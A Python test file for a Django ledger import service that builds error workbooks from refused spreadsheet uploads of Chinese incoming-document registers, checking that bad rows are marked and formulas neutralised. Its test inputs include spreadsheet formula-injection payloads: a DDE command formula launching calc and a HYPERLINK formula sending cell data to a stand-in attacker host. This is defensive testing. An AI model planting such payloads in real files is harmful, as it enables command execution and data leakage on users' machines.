"""The error workbook: the clerk's own file with 错误说明 on each row that could not be read."""

from __future__ import annotations

import io

import openpyxl
import pytest

from jianfu.ledgers.services.imports import ledger_error_workbook, ledger_import

from .helpers import cli_actor, csv_bytes, hekou_workbook
from .test_import_service import BAD_ROWS

pytestmark = pytest.mark.django_db


def _refused_batch(units, data, filename):
    result = ledger_import(actor=cli_actor(), unit=units["hk"], data=data, filename=filename)
    assert result.refused
    return result.batch


def test_xlsx_keeps_the_file_and_marks_the_bad_rows(units):
    bad = [*BAD_ROWS, [10, "2025-08-22", "县委办公室", None, "=cmd|' /C calc'!A0", None]]
    bad[0] = [7, "2025-02-30", "县委办公室", None, "关于水库安全度汛的通知", None]
    batch = _refused_batch(units, hekou_workbook(bad), "河口乡收文.xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(ledger_error_workbook(batch)))
    sheet = workbook["收文登记"]
    header = [c.value for c in sheet[2]]
    column = header.index("错误说明") + 1
    assert column == 7  # appended right of the clerk's last column
    assert sheet.cell(row=1, column=1).value == "河口乡2025年收文登记簿"  # nothing else changed
    assert "A1:F1" in {str(r) for r in sheet.merged_cells.ranges}
    marked = {
        row: sheet.cell(row=row, column=column).value
        for row in range(3, sheet.max_row + 1)
        if sheet.cell(row=row, column=column).value
    }
    # row 13's title is a formula whose value calamine cannot see: an error, not a title
    assert set(marked) == {10, 11, 12, 13}
    assert "文件名称" in marked[13]
    assert "收文日期" in marked[10] and "2025-02-30" in marked[10]
    assert "文件名称" in marked[12]
    assert sheet.cell(row=3, column=column).value is None  # a good row stays unmarked


def test_csv_becomes_an_xlsx_with_the_same_cells(units):
    rows = [
        ["收文日期", "来文单位", "文号", "标题"],
        ["2025-04-01", "县委办公室", "县委办发〔2025〕30号", "关于做好清明祭扫安全工作的通知"],
        ["2025-04-31", "县教育局", None, "关于春季学校安全检查的通知"],
        ["2025-04-03", "+SUM(A1:A2)", None, None],
    ]
    batch = _refused_batch(units, csv_bytes(rows, "gb18030"), "收文.csv")
    workbook = openpyxl.load_workbook(io.BytesIO(ledger_error_workbook(batch)))
    sheet = workbook["收文"]
    assert [c.value for c in sheet[1]] == ["收文日期", "来文单位", "文号", "标题", "错误说明"]
    assert sheet["B2"].value == "县委办公室" and sheet["E2"].value is None
    assert "2025-04-31" in sheet["E3"].value
    assert sheet["B4"].value == "'+SUM(A1:A2)"  # the clerk's text, neutralised
    assert "标题" in sheet["E4"].value
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"


def test_the_clerks_formulas_come_back_as_their_saved_values_never_live(units, tmp_path):
    """R12: the error workbook goes to the unit's leader and the county office; a formula
    planted in the upload (a link, a DDE call) must not come back live. Each formula becomes
    the value saved with it, which is what the import read."""
    import zipfile

    import xlsxwriter

    path = tmp_path / "收文.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet("收文登记")
    sheet.write_row(0, 0, ["收文日期", "来文单位", "标题", "详情"])
    day = book.add_format({"num_format": "yyyy-mm-dd"})
    sheet.write_formula(1, 0, "=DATE(2025,3,5)", day, 45721)  # Excel saved 2025-03-05
    sheet.write_row(1, 1, ["县委办公室", "关于做好春耕生产的通知"])
    sheet.write_formula(1, 3, '=HYPERLINK("http://evil.example/x?"&A2,"详情")', None, "详情")
    sheet.write_row(2, 0, ["2025-02-30", "县教育局", "关于开学检查的通知"])
    sheet.write_formula(2, 3, "=cmd|' /C calc'!A0", None, 0)
    book.close()
    batch = _refused_batch(units, path.read_bytes(), "收文.xlsx")
    content = ledger_error_workbook(batch)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert parts and not any(b"<f" in archive.read(n) for n in parts)
    out = openpyxl.load_workbook(io.BytesIO(content))["收文登记"]
    assert out["D2"].value == "详情" and out["D3"].value == 0
    assert out["A2"].value.date().isoformat() == "2025-03-05"
    assert "2025-02-30" in out["E3"].value and out["E2"].value is None
    assert all(cell.data_type != "f" for row in out.iter_rows() for cell in row)
